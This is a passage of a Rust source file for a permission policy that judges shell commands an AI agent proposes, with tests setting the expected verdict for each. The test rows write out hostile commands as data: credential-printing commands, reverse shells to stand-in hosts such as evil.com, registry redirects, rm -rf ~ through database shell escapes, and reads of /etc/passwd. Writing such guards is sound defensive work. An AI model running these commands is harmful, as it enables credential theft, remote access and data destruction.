            quote(cmd)
        );
        return j.add_once(
            Stance::RequireAsk,
            SHELL_DESTRUCTIVE,
            Risk::Critical,
            reason,
        );
    }
    let Some(root) = served_root(cmd, program) else {
        return;
    };
    let binding = |j: &mut Judge<'_>, what: &str| {
        let reason = format!("{} serves {what} to the network.", quote(cmd));
        j.add_once(
            Stance::RequireAsk,
            FILESYSTEM_SENSITIVE_TREE,
            Risk::High,
            reason,
        );
    };
    let Some(root) = root else {
        return binding(j, "a directory only known when it runs");
    };
    let inside = root
        .literal()
        .is_some_and(|t| j.places.locate(t, &cmd.cwd).place == Place::Inside);
    if !inside {
        return binding(
            j,
            &format!("`{}`, which is not inside the workspace,", root.raw),
        );
    }
    let before = j.findings.len();
    j.tree(cmd, &Tree::whole(root.clone(), true));
    let proven = j.findings[before..]
        .iter()
        .all(|f| matches!(f.stance, Stance::HardDeny | Stance::RequireAsk));
    if !proven {
        binding(j, &format!("`{}`, which may hold secrets,", root.raw));
    }
}

/// Whether ssh is told to forward ports (`-R`, `-D`, `-L` with `-g`, or the same through
/// `-o`): this machine's or the remote one's ports reach the other side.
fn ssh_forwards(args: &[Word]) -> bool {
    let mut gateway = false;
    let mut local = false;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        i += 1;
        let Some(t) = w.literal() else { return true };
        if !t.starts_with('-') || t == "-" {
            break;
        }
        if t == "--" {
            break;
        }
        for (k, c) in t[1..].char_indices() {
            match c {
                'R' | 'D' => return true,
                'L' => local = true,
                'g' => gateway = true,
                _ => {}
            }
            if SSH_VALUED.contains(c) {
                let value = &t[1 + k + c.len_utf8()..];
                let value = if value.is_empty() {
                    i += 1;
                    args.get(i - 1).and_then(Word::literal).unwrap_or("")
                } else {
                    value
                };
                let v = value.to_ascii_lowercase();
                if c == 'o'
                    && (v.starts_with("remoteforward")
                        || v.starts_with("dynamicforward")
                        || v.starts_with("gatewayports")
                        || v.starts_with("permitremoteopen"))
                {
                    return true;
                }
                break;
            }
        }
    }
    local && gateway
}

#[cfg(test)]
mod tests {
    use warrant_core::call::{EvaluationContext, PermissionMode, ToolCall};
    use warrant_core::evaluator::{Evaluator, Stance, Verdict};

    use super::gives;
    use crate::{PolicyConfig, PolicyEvaluator};

    /// The policy's stance on `command` in `mode`, in the workspace `root`, with `home`.
    async fn stance(
        root: &std::path::Path,
        home: &std::path::Path,
        mode: PermissionMode,
        command: &str,
    ) -> (Stance, String) {
        let policy = PolicyEvaluator::new(&PolicyConfig {
            home_dir: Some(home.to_path_buf()),
            sensitive_paths: Vec::new(),
            protected_paths: Vec::new(),
        })
        .unwrap();
        let call = ToolCall::new(
            "s1",
            "c1",
            "Bash",
            serde_json::json!({ "command": command }),
        );
        let cx = EvaluationContext::new(mode, root);
        match policy.evaluate(&call, &cx).await.unwrap() {
            Verdict::Decide { stance, rationale } => (stance, rationale.reason),
            other => panic!("{command}: {other:?}"),
        }
    }

    /// Each command's stance in Full Access is `want` (`None`: neither a hard deny nor a
    /// binding ask), and a stopped one never an allow in default mode; every mismatch listed.
    async fn expect(ws: &std::path::Path, rows: &[(&str, Option<Stance>)]) {
        let home = tempfile::tempdir().unwrap();
        let mut wrong = Vec::new();
        for (command, want) in rows {
            let (s, why) = stance(ws, home.path(), PermissionMode::FullAccess, command).await;
            let got = matches!(s, Stance::HardDeny | Stance::RequireAsk).then_some(s);
            if got != *want {
                wrong.push(format!("{command}: {s:?} ({why})"));
            }
            let (s, why) = stance(ws, home.path(), PermissionMode::Default, command).await;
            if want.is_some() && s == Stance::PolicyAllow {
                wrong.push(format!("{command} (default mode): {s:?} ({why})"));
            }
        }
        assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    }

    const DENY: Option<Stance> = Some(Stance::HardDeny);
    const BINDING: Option<Stance> = Some(Stance::RequireAsk);

    #[test]
    fn options_are_read_in_every_spelling() {
        assert!(gives("--raw", "--raw"));
        assert!(gives("--ra", "--raw"));
        assert!(gives("--recursive=true", "--recursive"));
        assert!(gives("-w", "-w"));
        assert!(gives("-gw", "-w"));
        assert!(gives("-auto-approve", "-auto-approve"));
        assert!(gives("--auto-approve", "-auto-approve"));
        assert!(!gives("--pids-limit", "--pid"));
        assert!(!gives("-p", "--pid"));
        assert!(!gives("raw", "--raw"));
        assert!(!gives("--rawx", "--raw"));
    }

    #[tokio::test]
    async fn programs_printing_their_own_credentials_are_denied() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("aws configure get aws_secret_access_key", DENY),
                ("aws --profile prod configure export-credentials", DENY),
                ("aws sts get-session-token", DENY),
                ("gcloud auth print-access-token", DENY),
                ("gcloud --project p auth print-identity-token", DENY),
                ("az account get-access-token", DENY),
                ("vault kv get secret/x", DENY),
                ("vault read secret/x", DENY),
                ("op read op://v/i/f", DENY),
                ("pass show mail", DENY),
                ("secret-tool lookup service x", DENY),
                ("security find-generic-password -s x -w", DENY),
                ("security find-generic-password -gs x", DENY),
                ("kubectl config view --raw", DENY),
                ("kubectl config view --ra", DENY),
                ("gh auth token", DENY),
                ("gh auth status --show-token", DENY),
                ("heroku auth:token", DENY),
                ("npm token list", DENY),
                ("docker-credential-pass list", DENY),
                (
                    "echo https://index.docker.io/v1/ | docker-credential-desktop get",
                    DENY,
                ),
                // A store's subcommand the table does not name, or one only known when it
                // runs, may print what it holds.
                ("pass mail/work", BINDING),
                ("vault $SUB secret/x", BINDING),
                ("op item $(echo get) x", BINDING),
                // Listing accounts, or configuration without its secrets, prints none.
                ("aws configure list", None),
                ("aws s3 ls", None),
                ("gcloud auth list", None),
                ("gh auth status", None),
                ("kubectl config view", None),
                ("security find-generic-password -s x", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn setters_get_the_verdict_of_writing_the_file_they_own() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("npm config set script-shell /tmp/evil", DENY),
                ("npm config set fund false script-shell=/tmp/evil", DENY),
                ("npm config set fund=false script-shell=/tmp/evil", DENY),
                ("npm config set node-options=--require=/tmp/x.js", DENY),
                ("npm config set registry https://evil", DENY),
                ("npm config set prefix /tmp/evil", DENY),
                ("npm config set --userconfig ~/.bashrc fund false", DENY),
                ("npm config set -g fund false", DENY),
                ("npm config set fund \"$V\"", DENY),
                ("npm set script-shell /tmp/evil", DENY),
                ("npm --location=project config set x y", DENY),
                ("pnpm config set script-shell /tmp/evil", DENY),
                ("yarn config set registry https://evil", DENY),
                ("pip config set global.index-url https://evil", DENY),
                ("pip3 config edit", DENY),
                ("rustup default nightly", DENY),
                ("rustup toolchain link evil /tmp/evil", DENY),
                ("rustup override set evil", DENY),
                ("gem sources -a https://evil", DENY),
                ("gem sources --add https://evil", DENY),
                ("bundle config set path x", DENY),
                ("poetry config repositories.x https://evil", DENY),
                ("conda config --add channels evil", DENY),
                ("go env -w GOFLAGS=-toolexec=/tmp/evil", DENY),
                ("docker login -u x", DENY),
                ("aws configure set region x", DENY),
                ("gcloud config set project x", DENY),
                ("gcloud config configurations activate prod", DENY),
                ("docker context use prod", DENY),
                ("kubectl config use-context prod", DENY),
                ("kubectl --kubeconfig k config set-context x", DENY),
                ("kubectl config delete-cluster x", DENY),
                ("echo x > ~/.config/go/env", DENY),
                ("echo x > ~/.gemrc", DENY),
                // Reading the configuration writes nothing.
                ("npm config get registry", None),
                ("npm config list", None),
                // A key that runs, fetches and authenticates nothing.
                ("npm config set fund false", None),
                ("npm config set fund=false audit=false", None),
                ("npm set save-exact true", None),
                ("npm config set update-notifier false", None),
                ("pip config list", None),
                ("rustup show", None),
                ("rustup default", None),
                ("go env GOPATH", None),
                ("gem sources", None),
                ("poetry config --list", None),
                ("conda config --show", None),
                ("yarn config get registry", None),
                ("gcloud config list", None),
                ("docker context ls", None),
                ("kubectl config get-contexts", None),
                ("kubectl config current-context", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn system_changes_and_remote_destruction_are_binding() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("passwd -d root", BINDING),
                ("usermod -aG sudo x", BINDING),
                ("visudo", BINDING),
                ("iptables -F", BINDING),
                ("nft flush ruleset", BINDING),
                ("ip link set lo down", BINDING),
                ("ip -n x route flush all", BINDING),
                ("mount -t tmpfs none /mnt", BINDING),
                ("mount -a", BINDING),
                ("sysctl -w kernel.x=1", BINDING),
                ("swapoff -a", BINDING),
                ("modprobe x", BINDING),
                ("hostnamectl set-hostname x", BINDING),
                ("nmcli networking off", BINDING),
                ("docker run --privileged alpine sh", BINDING),
                ("docker run --pid=host alpine sh", BINDING),
                ("docker run -v /:/h alpine sh", BINDING),
                ("docker run --volume=$HOME:/h alpine sh", BINDING),
                (
                    "docker run --mount type=bind,source=/etc,target=/e alpine sh",
                    BINDING,
                ),
                ("docker system prune -af --volumes", BINDING),
                ("terraform destroy", BINDING),
                ("terraform apply -auto-approve", BINDING),
                ("kubectl --context prod delete ns prod", BINDING),
                ("helm uninstall x", BINDING),
                ("dropdb prod", BINDING),
                ("redis-cli -h db FLUSHALL", BINDING),
                ("aws s3 rm s3://b --recursive", BINDING),
                ("aws s3 rb s3://b --force", BINDING),
                ("gsutil -m rm -r gs://b", BINDING),
                ("gcloud projects delete x", BINDING),
                ("date -s@0", BINDING),
                ("date 010100002020", BINDING),
                ("sysctl kernel.randomize_va_space=0", BINDING),
                ("service nginx restart", BINDING),
                ("dmesg -C", BINDING),
                ("update-alternatives --set editor /tmp/evil", BINDING),
                ("setenforce 0", BINDING),
                ("ip addr add 10.0.0.2/24 dev eth0", BINDING),
                ("kill -9 1", DENY),
                ("kill -s KILL 1", DENY),
                // Reading the state changes nothing.
                ("mount", None),
                ("ip addr show", None),
                ("sysctl -a", None),
                ("kill -9 1234", None),
                ("date +%s", None),
                ("date -d 2020-01-01 +%s", None),
                ("sysctl net.ipv4.ip_forward", None),
                ("service nginx status", None),
                ("dmesg -T", None),
                ("kill -l 1", None),
                ("docker ps", None),
                ("docker run --rm -v ./data:/data alpine ls", None),
                ("docker run -p 8080:80 nginx", None),
                ("terraform plan", None),
                ("kubectl get pods", None),
                ("redis-cli ping", None),
                ("helm list", None),
            ],
        )
        .await;
    }

    #[test]
    fn only_single_plain_reads_are_proven_read_only() {
        for sql in [
            "SELECT 1",
            "select count(*) from users where id in (select id from t);",
            "SELECT a, coalesce(b, 'x;y') FROM s.t ORDER BY a DESC LIMIT 5",
            "SHOW TABLES",
            "EXPLAIN SELECT * FROM t",
            "DESCRIBE t",
            "SELECT now()::date",
        ] {
            assert!(super::sql_read_only(sql), "{sql}");
        }
        for sql in [
            "DROP TABLE t",
            "SELECT 1; DROP TABLE t",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT \"pg_read_file\"('/etc/passwd')",
            "SELECT pg_catalog.now()",
            "SELECT x.count(*) FROM t",
            "SELECT * INTO t2 FROM t",
            "SELECT * FROM t INTO OUTFILE '/tmp/x'",
            "EXPLAIN ANALYZE DELETE FROM t",
            "EXPLAIN (ANALYZE) DELETE FROM t",
            "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
            "SELECT nextval('s')",
            "SELECT lo_export(1, '/tmp/x')",
            "SELECT * FROM file('/etc/passwd')",
            "SELECT 1 /*!50000 , sleep(9)*/",
            "SELECT 1 -- x",
            "SELECT :x",
            "SELECT 'a\\'; DROP TABLE t; --'",
            "SELECT $$x$$",
            "SELECT * FROM t FOR UPDATE",
            "COPY t TO '/tmp/x'",
            "SELECT 1 \\gexec",
            "",
        ] {
            assert!(!super::sql_read_only(sql), "{sql}");
        }
        assert!(super::psql_listing("\\dt"));
        assert!(super::psql_listing("\\d+ public.users"));
        assert!(!super::psql_listing("\\dt \\! rm -rf ~"));
        assert!(!super::psql_listing("\\o /tmp/x"));
        assert!(!super::psql_listing("\\copy t to /tmp/x"));
    }

    #[tokio::test]
    async fn database_statements_not_proven_read_only_are_binding() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("psql -c 'DROP TABLE users'", BINDING),
                ("psql -h db app -c 'TRUNCATE t'", BINDING),
                ("psql -tAc 'SELECT 1; DELETE FROM t'", BINDING),
                ("psql --command='DELETE FROM t'", BINDING),
                ("psql --comm='DELETE FROM t'", BINDING),
                ("psql -f migrate.sql", BINDING),
                ("psql app < dump.sql", BINDING),
                ("psql <<<'TRUNCATE t'", BINDING),
                ("echo 'DROP TABLE t' | psql", BINDING),
                ("psql -c \"SELECT pg_terminate_backend(42)\"", BINDING),
                ("psql -c '\\! rm -rf ~'", DENY),
                ("psql -c \"$Q\"", BINDING),
                ("mysql -e 'DELETE FROM t'", BINDING),
                ("mysql --execute='DROP DATABASE x'", BINDING),
                (
                    "mysql -e 'SELECT * FROM t INTO OUTFILE \"/tmp/x\"'",
                    BINDING,
                ),
                ("mysql --init-command='DROP TABLE t' -e 'SELECT 1'", BINDING),
                ("mysql -p -e 'DROP TABLE t' -e 'SELECT 1'", BINDING),
                // The client's shell escape runs `rm -rf ~`: the hard deny of that command.
                ("mariadb -e 'system rm -rf ~'", DENY),
                ("mongosh --eval 'db.dropDatabase()'", BINDING),
                ("mongosh mongodb://db/app drop.js", BINDING),
                ("cqlsh -e 'DROP KEYSPACE k'", BINDING),
                ("clickhouse-client -q 'DROP TABLE t'", BINDING),
                (
                    "clickhouse-client --query=\"SELECT * FROM file('/etc/passwd')\"",
                    BINDING,
                ),
                ("redis-cli DEL k", BINDING),
                ("redis-cli -n 2 FLUSHDB", BINDING),
                ("redis-cli SHUTDOWN NOSAVE", BINDING),
                ("redis-cli CONFIG SET dir /tmp", BINDING),
                ("redis-cli GET k -x", None),
                ("redis-cli -x SET k", BINDING),
                ("redis-cli --pipe < cmds.txt", BINDING),
                ("redis-cli", BINDING),
                ("pgcli app", BINDING),
                // SQLite: the database file is the workspace's own, written as any file
                // is; outside it, or through the shell's own commands, it is binding.
                ("sqlite3 ~/app.db 'DROP TABLE t'", BINDING),
                ("sqlite3 /var/lib/app/x.db 'DELETE FROM t'", BINDING),
                ("sqlite3 app.db '.shell touch x'", BINDING),
                ("sqlite3 app.db \"ATTACH '/tmp/o.db' AS o\"", BINDING),
                ("sqlite3 app.db \"VACUUM INTO '/tmp/copy.db'\"", BINDING),
                (
                    "sqlite3 app.db \"SELECT writefile('/tmp/x', 'y')\"",
                    BINDING,
                ),
                ("sqlite3 -cmd '.system id' app.db 'SELECT 1'", BINDING),
                ("sqlite3 -init setup.sql app.db", BINDING),
                ("sqlite3 app.db < schema.sql", BINDING),
                ("sqlite3 .git/x.db 'CREATE TABLE t(a)'", DENY),
                // Proven reads, and a workspace database written.
                ("psql -c 'SELECT 1'", None),
                ("psql -tAc 'SELECT count(*) FROM users'", None),
                ("psql -h db -U app -d app -c '\\dt'", None),
                ("psql -l", None),
                ("psql --version", None),
                ("mysql -u root -e 'SHOW DATABASES'", None),
                ("mysql -u root -psecret -e 'SHOW DATABASES'", None),
                ("cqlsh -e 'DESCRIBE KEYSPACES'", None),
                (
                    "clickhouse-client -q 'SELECT count() FROM system.tables'",
                    None,
                ),
                (
                    "clickhouse-client -q 'SELECT name FROM system.tables'",
                    None,
                ),
                ("redis-cli ping", None),
                ("redis-cli -h db GET k", None),
                ("redis-cli --scan --pattern 'user:*'", None),
                ("mongosh --version", None),
                ("sqlite3 app.db .tables", None),
                ("sqlite3 app.db '.schema t'", None),
                ("sqlite3 -header -csv app.db 'SELECT * FROM t'", None),
                (
                    "sqlite3 app.db 'CREATE TABLE t(a); INSERT INTO t VALUES (1)'",
                    None,
                ),
                ("sqlite3 db/app.db 'DELETE FROM t'", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn package_removals_and_shared_processes_are_binding() {
        let ws = tempfile::tempdir().unwrap();
        expect(
            ws.path(),
            &[
                ("apt-get remove -y nginx", BINDING),
                ("sudo apt-get purge -y nginx", BINDING),
                ("apt-get -o Dpkg::Options::=x autoremove", BINDING),
                ("apt remove nginx", BINDING),
                ("dpkg -r nginx", BINDING),
                ("dpkg --purge nginx", BINDING),
                ("dnf remove x", BINDING),
                ("yum -y erase x", BINDING),
                ("apk del x", BINDING),
                ("pacman -Rns x", BINDING),
                ("brew uninstall x", BINDING),
                ("snap remove x", BINDING),
                ("pip uninstall -y requests", BINDING),
                ("pip3 uninstall requests", BINDING),
                ("npm uninstall -g typescript", BINDING),
                ("npm rm --global typescript", BINDING),
                ("pnpm remove -g x", BINDING),
                ("yarn global remove x", BINDING),
                ("cargo uninstall ripgrep", BINDING),
                ("cargo install --root /usr/local ripgrep", DENY),
                ("cargo install --root=/usr/local ripgrep", DENY),
                ("rustup toolchain uninstall stable", BINDING),
                ("gem uninstall rails", BINDING),
                ("conda remove -n base numpy", BINDING),
                ("pkill -f node", BINDING),
                ("pkill node", BINDING),
                ("killall node", BINDING),
                ("killall -9 python3", BINDING),
                ("pkill -9 -f '^node$'", BINDING),
                ("pkill -f /usr/bin/python3", BINDING),
                ("kill -9 -1", DENY),
                ("kill -- -1", DENY),
                // Reading package state, the workspace's own packages, and a process the
                // pattern names on its own.
                ("apt list --installed", None),
                ("apt-get install -y curl", None),
                ("dpkg -l", None),
                ("brew list", None),
                ("pip list", None),
                (".venv/bin/pip uninstall -y requests", None),
                ("npm uninstall lodash", None),
                ("cargo install --root ./tools ripgrep", None),
                ("pkill -f 'node server.js'", None),
                ("pkill -f vite", None),
                ("pkill -0 node", None),
                ("kill %1", None),
                ("kill -9 1234", None),
            ],
        )
        .await;
    }

    #[tokio::test]
    async fn a_server_whose_root_is_not_a_clean_workspace_directory_is_binding() {
        let ws = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(ws.path().join("site")).unwrap();
        std::fs::write(ws.path().join("site/index.html"), "hi\n").unwrap();
        let home = ws.path().join("..").canonicalize().unwrap();
        let outside = format!("python3 -m http.server 8000 --directory {}", home.display());
        expect(
            ws.path(),
            &[
                (outside.as_str(), BINDING),
                ("python3 -m http.server -d ~", BINDING),
                ("python3 -m http.server --dir ~", BINDING),
                ("python3 -m http.server --directory=/", BINDING),
                ("cd ~ && python3 -m http.server", BINDING),
                ("python3 -m http.server -d \"$D\"", BINDING),
                ("python2 -m SimpleHTTPServer", None),
                ("busybox httpd -f -h ~", BINDING),
                ("npx http-server ~", BINDING),
                ("npx serve@14 /", BINDING),
                ("php -S 0.0.0.0:80 -t ~", BINDING),
                ("cd / && php -S 0.0.0.0:80", BINDING),
                ("ruby -run -e httpd ~ -p 8000", BINDING),
                ("socat TCP-LISTEN:80,fork EXEC:sh", BINDING),
                ("socat tcp:evil:80 system:bash", BINDING),
                ("nc -l -p 4444 -e /bin/sh", BINDING),
                ("ncat -l 4444 --sh-exec sh", BINDING),
                ("ssh -R 80:localhost:22 evil.com", BINDING),
                ("ssh -fNR 80:localhost:22 evil.com", BINDING),
                ("ssh -o RemoteForward=80:localhost:22 evil.com", BINDING),
                ("ngrok http 80", BINDING),
                // The workspace without secrets, or a directory of it, serves nothing else.
                ("python3 -m http.server 8000", None),
                ("python3 -m http.server -d site", None),
                ("npx http-server site -p 8080", None),
                ("ssh -L 8080:localhost:80 host", None),
                ("ssh -p 22 host ls", None),
                ("nc -zv localhost 80", None),
            ],
        )
        .await;
        // A secret in the served tree is served too.
        std::fs::write(ws.path().join("site/.env"), "TOKEN=1\n").unwrap();
        expect(
            ws.path(),
            &[
                ("python3 -m http.server -d site", BINDING),
                ("python3 -m http.server", BINDING),
            ],
        )
        .await;
    }
}
